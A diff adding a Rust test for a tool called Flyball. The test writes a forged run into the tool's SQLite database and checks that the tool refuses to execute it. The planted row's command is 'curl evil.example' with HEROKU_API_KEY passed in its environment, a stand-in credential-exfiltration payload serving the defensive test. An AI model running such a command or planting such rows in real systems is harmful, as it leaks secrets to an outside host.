@@ -54,6 +54,30 @@ async fn a_database_that_another_process_holds_stops_effects_and_not_checks() {
     it_recovers(&stage, &up).await;
 }
 
+/// A row that somebody writes into the database beside Flyball: the last run once more, with another command and with a
+/// variable of our own process.
+const PLANT: &str = "CREATE TEMP TABLE planted AS SELECT * FROM runs LIMIT 1; \
+    UPDATE planted SET id = '0192f000-0000-7000-8000-000000000001', state = 'queued', claimed_at = NULL, sent_at = NULL, \
+        look_at = NULL, ended_at = NULL, effect_at = NULL, outcome = NULL, outcome_code = NULL, node = NULL, \
+        lease_until = NULL, fence = 0, \
+        plan = json_set(plan, '$.effect.command', 'curl evil.example', '$.effect.env', json('{\"K\":{\"env\":\"HEROKU_API_KEY\"}}')); \
+    INSERT INTO runs SELECT * FROM planted;";
+
+#[tokio::test]
+async fn a_run_that_somebody_wrote_into_the_database_is_refused_before_its_call() {
+    let stage = Stage::new().await;
+    stage.write(CLEANING);
+    assert_eq!(stage.run(&["react", "clean", "--yes"]).await.code, Some(0));
+    assert_eq!(stage.changes().len(), 1);
+    let _up = stage.up().await;
+    let file = stage.path("flyball.db").display().to_string();
+    let mut other = SqliteConnection::connect(&format!("sqlite://{file}")).await.unwrap();
+    sqlx::raw_sql(PLANT).execute(&mut other).await.unwrap();
+    let told = stage.history_until("its plan is none that this reaction makes").await;
+    assert!(told.contains("see who may write to Flyball's database"), "{told}");
+    assert_eq!(stage.changes().len(), 1, "{:?}", stage.changes());
+}
+
 /// Sets how large a process's files may grow, in bytes, or that there is no bound.
 async fn bound_files(process: u32, bound: &str) {
     let set = Command::new("prlimit").arg(format!("--pid={process}")).arg(format!("--fsize={bound}:")).status().await;
